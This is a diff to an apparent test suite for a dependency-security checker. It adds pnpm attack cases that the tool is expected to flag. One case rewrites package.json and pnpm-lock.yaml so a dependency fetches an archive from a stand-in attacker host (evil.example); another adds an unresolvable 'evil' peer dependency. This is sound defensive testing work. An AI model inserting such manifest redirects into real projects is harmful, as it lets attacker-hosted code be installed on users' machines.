@@ -46,6 +46,33 @@ export const PNPM_LOCKFILE: AttackClass = {
     "pnpm installs what the lockfile says as long as manifests, overrides and catalogs are those that it was written for, and else resolves anew.",
   attacks: [
     {
+      name: "answers an address by a package of the registry",
+      base: WITH_PNPM,
+      change: {
+        "package.json": manifestWith({
+          packageManager: "pnpm@10.20.0",
+          dependencies: { left: "https://evil.example/left.tgz" },
+        }),
+        "pnpm-lock.yaml": changed(PNPM_LOCK, [
+          "specifier: ^1.0.0",
+          "specifier: https://evil.example/left.tgz",
+        ]),
+      },
+      expect: "loud",
+      at: "package.json",
+      real: "By pnpm's manual, not run: without a frozen lockfile it fetches the address.",
+    },
+    {
+      name: "asks for a peer that nothing has",
+      base: WITH_PNPM,
+      change: {
+        "package.json": manifestWith({ packageManager: "pnpm@10.20.0", peerDependencies: { evil: "*" } }),
+      },
+      expect: "loud",
+      at: "package.json",
+      real: "pnpm 10 without a frozen lockfile installed it.",
+    },
+    {
       name: "takes a release from an archive elsewhere",
       base: WITH_PNPM,
       change: { [LOCK]: changed(PNPM_LOCK, [LEFT, ARCHIVE]) },
